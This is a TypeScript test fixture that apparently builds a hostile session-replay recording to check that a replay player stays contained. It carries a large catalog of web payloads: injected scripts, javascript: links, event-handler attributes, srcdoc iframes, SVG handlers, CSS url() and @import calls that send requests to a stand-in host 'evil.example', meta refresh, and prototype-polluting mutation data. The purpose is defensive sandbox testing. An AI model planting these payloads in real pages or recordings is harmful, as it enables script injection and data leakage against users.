import { gzipSync } from 'node:zlib'
import type { BundlePage } from '../bundle-page.ts'

/* A replay made to break out of the page that shows it. */

let nextId = 0
export const element = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: unknown[] = []) => ({
  type: 2,
  id: ++nextId,
  tagName,
  attributes,
  childNodes,
})
const svg = (tagName: string, attributes: Record<string, unknown>) => ({ ...element(tagName, attributes), isSVG: true })
export const text = (textContent: string) => ({ type: 3, id: ++nextId, textContent })

/** A recording of one page and what happened on it. */
export function recording(head: unknown[], body: unknown[], later: Record<string, unknown>[] = []): unknown[] {
  const html = element('html', {}, [element('head', {}, head), element('body', {}, body)])
  return [
    { type: 4, timestamp: 1000, data: { href: 'javascript:pwned()', width: 800, height: 600 } },
    { type: 2, timestamp: 1001, data: { node: { type: 0, id: 99_999, childNodes: [html] }, initialOffset: {} } },
    ...later.map((data, index) => ({ type: 3, timestamp: 1100 + index, data })),
  ]
}

// Leads to the test's own server, so that a request that gets through is seen there.
export const evil = 'http://evil.example:PORT/leak'
const code = 'top.pwned = true; parent.pwned = true'

export function attack(): unknown[] {
  const head = [
    element('script', { src: `${evil}.js` }),
    element('script', {}, [text(code)]),
    element('base', { href: 'http://evil.example/' }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}` }),
    element('link', { rel: 'stylesheet', href: `${evil}.css` }),
    element('link', { rel: 'dns-prefetch', href: evil }),
    element('link', { rel: 'preload', as: 'image', href: evil }),
    element('style', {
      _cssText: `@import url(${evil}.css); @font-face { font-family: F; src: url(${evil}.woff2) } body { font-family: F; background: url(${evil}.png) } h1 { background: u\\72l("${evil}-escaped.png"); color: rgb(1, 2, 3) }`,
    }),
    element('style', {}, [text(`p { background: image-set(url(${evil}-set.png) 1x) }`)]),
  ]
  const body = [
    element('h1', { onclick: code, onmouseover: code }, [text('<script>top.pwned = true</script>')]),
    element('img', { src: `${evil}.png`, srcset: `${evil}-2.png 2x`, onerror: code }),
    element('img', { src: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=true"/>' }),
    element('img', { src: 'x', onerror: code }),
    element('iframe', { src: `${evil}.html`, srcdoc: `<script>${code}</script>` }),
    element('object', { data: `${evil}.swf` }),
    element('embed', { src: `${evil}.swf` }),
    element('video', { src: `${evil}.mp4`, poster: `${evil}-poster.png`, autoplay: true }),
    element('audio', { src: `${evil}.mp3`, autoplay: true }, [element('source', { src: `${evil}.ogg` })]),
    element('a', { id: 'link', href: `javascript:${code}`, ping: evil, target: '_top' }, [text('Click me')]),
    element('form', { action: `javascript:${code}` }, [
      element('input', { autofocus: true, onfocus: code, value: 'x' }),
      element('input', { type: 'image', src: `${evil}-input.png` }),
      element('button', { formaction: `javascript:${code}` }, [text('Send')]),
    ]),
    element('noscript', {}, [element('img', { src: `${evil}-noscript.png` })]),
    element('div', { style: `background-image: url(${evil}-style.png); color: red` }, [text('Styled')]),
    element('table', { background: `${evil}-table.png` }),
    svg('use', { href: `${evil}.svg#x` }),
    svg('image', { href: `${evil}-image.png`, 'xlink:href': `${evil}-image.png` }),
    svg('script', { href: `${evil}.js` }),
    svg('animate', { attributeName: 'href', to: `javascript:${code}`, onbegin: code }),
    element('a b><script>', { 'x y': '1', 'onclick=': code }, [text('Strange names')]),
    element('x-evil', {}, []),
  ]
  const target = element('p', { id: 'target' }, [text('Before')])
  const later = [
    { source: 0, adds: [{ parentId: target.id, nextId: null, node: element('script', {}, [text(code)]) }] },
    { source: 0, adds: [{ parentId: target.id, nextId: null, node: element('img', { src: `${evil}-late.png` }) }] },
    {
      source: 0,
      attributes: [
        { id: target.id, attributes: { onclick: code, style: { 'background-image': [`url(${evil}-attr.png)`, ''] } } },
      ],
    },
    { source: 8, id: 8, adds: [{ rule: `p { background: url(${evil}-rule.png) }`, index: 0 }] },
    {
      source: 15,
      id: 99_999,
      styles: [{ styleId: 1, rules: [{ rule: `p{background:url(${evil}-ad.png)}` }] }],
      styleIds: [1],
    },
    { source: 10, family: 'F', fontSource: `url(${evil}.woff)`, buffer: false },
    { source: 9, id: target.id, commands: [{ property: 'constructor', args: [code] }] },
    { source: 5, id: target.id, text: code },
    { source: 0, adds: [{ parentId: '__proto__', nextId: {}, node: null }], removes: [{ id: 99_999 }], texts: 'x' },
    { source: 0, texts: [{ id: target.id, value: 'After' }] },
    { source: 3, id: 99_999, x: Number.MAX_VALUE, y: 'x' },
    { source: 1, positions: [{ x: 1e300, y: null, timeOffset: -1e300 }, null, 7] },
  ]
  return recording(head, [...body, target], later)
}

/** Shows a file as the team's inbox would, and plays it to the end. */
export const show = (base64: string) => `(async () => {
  const bytes = Uint8Array.from(atob('${base64}'), (one) => one.charCodeAt(0))
  stand.replaceChildren()
  const shown = await player.createPlayer(stand, new Blob([bytes]), { external: false })
  for (const place of [0.5, 1, 0, 1]) shown.seek(shown.durationMs * place)
  await new Promise((resolve) => setTimeout(resolve, 300))
})()`

export const asFile = (value: unknown, { url }: BundlePage) => {
  const json = typeof value === 'string' ? value : JSON.stringify(value)
  return gzipSync(json.replaceAll('PORT', new URL(url).port)).toString('base64')
}
